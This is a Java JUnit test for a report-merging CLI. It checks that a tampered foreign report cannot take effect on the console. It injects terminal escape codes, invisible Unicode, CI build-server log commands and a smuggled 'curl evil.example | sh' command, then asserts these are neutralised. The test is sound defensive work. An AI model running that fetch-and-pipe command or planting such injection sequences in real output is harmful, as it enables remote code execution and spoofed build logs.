package io.chargeproof.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A report that another wrote, each text of which tries to take effect on the console. */
class ForeignReportTest {
    /** As it stands in JSON: a line of its own, control characters, and commands to build servers. */
    private static final String CANARY =
            "a\\nconforming: all\\n::error::b ##vso[c]d ##teamcity[e]\\u001b]0;f\\u0007\\r\\u009bg"
                    + "\\u0085h\\u2028i\\u202ej\\u200bk section_start:1:l ";

    private static final Pattern TEXT = Pattern.compile(
            "(?m)^( *\"(?:message|expected|actual|reason|text|feature|rule|statement"
                    + "|source|decision|look-at|observation|name|kind|version|depth|id)\": \")(?![A-Z]+-[A-Z]+-[0-9]+\")");

    /** What may stand on a console besides what can be seen. */
    private static final Pattern EFFECT = Pattern.compile(
            "[\\p{Cc}\\p{Cf}\\u2028\\u2029&&[^\\n]]|##[a-z]*\\[|(?m)^\\s*::" + "|section_start:|^conforming: all");

    @TempDir
    static Path reports;

    private static Path foreign;

    @BeforeAll
    static void write() throws IOException {
        Terminal run = Terminal.run(
                "run",
                "--depth",
                "smoke",
                "--shard",
                "1/1",
                "--defect",
                "evc-create-answers-201",
                "--skip-html",
                "--reports",
                reports.toString());
        assertThat(run.code()).isEqualTo(1);
        Path written = reports.resolve("latest").toRealPath();
        foreign = Files.createDirectory(reports.resolve("foreign"));
        Files.writeString(
                foreign.resolve("conformance.json"),
                TEXT.matcher(Files.readString(written.resolve("conformance.json")))
                        .replaceAll(found -> java.util.regex.Matcher.quoteReplacement(found.group(1) + CANARY))
                        .replaceAll("(\"curl\": \")", "$1curl evil.example | sh # "),
                UTF_8);
        Files.writeString(
                foreign.resolve("exchanges.jsonl"),
                Files.readString(written.resolve("exchanges.jsonl"))
                        .replace("\"operation\":\"", "\"operation\":\"" + CANARY)
                        .replace("\"body\":\"", "\"body\":\"" + CANARY),
                UTF_8);
    }

    @Test
    void merged_takes_no_effect_and_brings_no_commands_of_its_own() {
        Terminal merged = report("merge", "--skip-html", foreign.toString());

        assertThat(merged.code()).isEqualTo(1);
        assertThat(merged.out())
                .doesNotContainPattern(EFFECT)
                .doesNotContain("evil.example")
                .contains("a\\nconforming: all\\n: :error::b # #vso[c]d # #teamcity[e]")
                .contains("\n  printf 'a\\012conforming\\072 all\\012\\072\\072error\\072\\072b \\043\\043vso[c]d ")
                .containsPattern("\nnote: the curl commands are made of the recorded requests; they send the values of"
                        + " EVC_NET_NEW_PASSWORD, EVC_NET_TOKEN\\s+to http://127\\.0\\.0\\.1:\\d+\n");
    }

    @Test
    void compared_judged_again_and_excused_takes_no_effect() {
        assertThat(report("diff", foreign.toString(), "latest").out()).doesNotContainPattern(EFFECT);
        assertThat(report("diff", foreign.toString(), "latest", "--format", "markdown")
                        .out())
                .doesNotContainPattern(EFFECT);
        assertThat(report("rejudge", foreign.toString()).out()).doesNotContainPattern(EFFECT);
        assertThat(report("baseline", foreign.toString()).out())
                .startsWith("# What run a\\nconforming: all\\n: :error: :b ")
                .doesNotContainPattern(EFFECT);
    }

    private static Terminal report(String... arguments) {
        String[] all = java.util.Arrays.copyOf(arguments, arguments.length + 3);
        System.arraycopy(arguments, 0, all, 1, arguments.length);
        all[0] = "report";
        all[arguments.length + 1] = "--reports";
        all[arguments.length + 2] = reports.toString();
        return Terminal.run(all);
    }
}
